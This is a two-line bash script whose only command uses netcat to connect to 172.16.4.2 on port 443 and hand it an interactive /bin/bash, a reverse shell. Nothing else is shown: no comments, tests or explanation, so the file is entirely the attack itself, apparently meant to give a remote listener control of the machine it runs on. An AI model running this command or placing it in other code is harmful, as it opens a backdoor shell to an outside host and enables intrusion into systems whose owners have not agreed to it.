#!/usr/bin/env bash
`which nc` 172.16.4.2 443 -e /bin/bash
